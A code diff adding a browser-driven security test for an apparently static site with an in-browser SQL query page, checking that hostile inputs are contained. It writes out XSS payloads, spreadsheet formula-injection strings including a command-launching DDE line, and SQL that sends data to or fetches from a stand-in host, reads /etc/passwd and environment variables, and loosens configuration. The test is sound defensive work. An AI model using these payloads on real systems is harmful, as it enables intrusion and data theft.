@@ -6,6 +6,8 @@ CULTURESCOPE_SCREENSHOTS names a folder to look at the pages in.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import socket
@@ -163,6 +165,81 @@ def test_sql_runs_over_the_published_files_and_asks_no_other_host(
             shown = asked(tab, tab.run(PREFILLED))
             assert not shown["isError"], shown
             assert len(shown["rows"]) > 1
+    assert came == []
+
+
+SCRIPT = '<img src="https://elsewhere.example/x" onerror="window.taken = 1"><script>window.taken = 1</script>'
+FORMULAS = ('=HYPERLINK("https://elsewhere.example","x")', "@SUM(1)", "+1+cmd|'/C calc'!A0", "-2+3", "\t=1")
+NO_FORMULAS = ("-0.5", "+1", "-1e-07", "name", "a=b", "−")
+SAVED = """new Promise((done) => {
+    const made = URL.createObjectURL;
+    URL.createObjectURL = (blob) => {
+        URL.createObjectURL = made;
+        blob.text().then(done);
+        return made(blob);
+    };
+    document.getElementById("save").click();
+})"""
+HOSTILE_SQL = (
+    "COPY (SELECT 1) TO 'https://elsewhere.example/x.csv'",
+    "ATTACH 'https://elsewhere.example/x.duckdb' AS x",
+    "FROM read_parquet('https://elsewhere.example/x.parquet')",
+    "FROM read_json('https://elsewhere.example/x.json')",
+    "FROM read_text('/etc/passwd')",
+    "FROM glob('/*')",
+    "LOAD httpfs",
+    "SET lock_configuration = false",
+    "SET custom_extension_repository = 'https://elsewhere.example'",
+    "SELECT getenv('HOME')",
+    "EXPORT DATABASE 'x'",
+    "CALL enable_logging(storage = 'file')",
+    "SELECT error('" + SCRIPT.replace("'", "''") + "')",
+    "SELECT '" + SCRIPT.replace("'", "''") + "' FROM nowhere",
+    SCRIPT,
+    "SELECT 1; SELECT" + "(" * 2000,
+    "\0",
+    "-- nothing",
+)
+
+
+def test_hostile_sql_and_hostile_names_do_nothing(
+    site: Path, address: str, elsewhere: tuple[str, list[Any]], tmp_path: Path
+) -> None:
+    rule, came = elsewhere
+    with browser(tmp_path / "profile", rule) as tab:
+        tab.open(f"{address}/query.html#sql={quote(SCRIPT)}")
+        assert tab.run(PREFILLED) == SCRIPT
+        assert tab.run("document.querySelector('#result table')") is None, "a link runs nothing"
+        models = sorted(set(pl.read_parquet(site / "data" / "metric_value.parquet")["model"]))
+        assert any("<script>" in name for name in models)
+        shown = asked(tab, "SELECT DISTINCT model FROM metric_value ORDER BY model")
+        assert [row for (row,) in shown["rows"][1:]] == models
+        values = [*FORMULAS, *NO_FORMULAS, SCRIPT]
+        rows = ", ".join("('{}', {})".format(value.replace("'", "''"), -n) for n, value in enumerate(values))
+        named = SCRIPT.replace('"', '""')
+        shown = asked(tab, f'SELECT a AS "{named}", b AS "=1" FROM (VALUES {rows}) t(a, b)')
+        assert not shown["isError"], shown
+        assert shown["rows"][0] == [SCRIPT, "=1"]
+        assert [row[0].strip() for row in shown["rows"][1:]] == [value.strip() for value in values]
+        saved = list(csv.reader(io.StringIO(tab.run(SAVED))))
+        guarded = [f"'{value}" for value in FORMULAS]
+        assert saved[0] == [SCRIPT, "'=1"]
+        assert [row[0] for row in saved[1:]] == [*guarded, *NO_FORMULAS, SCRIPT]
+        assert [row[1] for row in saved[1:]] == [str(-n) for n in range(len(values))], "numbers stay numbers"
+        for sql in HOSTILE_SQL:
+            shown = asked(tab, sql)
+            assert shown["isError"] or len(shown["rows"]) <= 2, (sql, shown)
+            assert asked(tab, "SELECT count(*) FROM metric")["rows"][1] != ["0"], "the next one is answered"
+            assert "root:" not in str(shown)
+        # What a script that got in could do: the page's own rules hold it.
+        blocked = "fetch('https://elsewhere.example/?x=1').then(() => 'sent', () => 'blocked')"
+        assert tab.run(blocked) == "blocked"
+        assert asked(tab, "SELECT 1 AS one")["rows"] == [["one"], ["1"]]
+        assert tab.run("window.taken === undefined")
+        assert tab.run("document.querySelectorAll('#result img, #result script').length") == 0
+        for page in sorted(site.glob("*.html")):
+            tab.open(f"{address}/{page.name}")
+            assert tab.run("window.taken === undefined"), page.name
     assert came == []
 
 
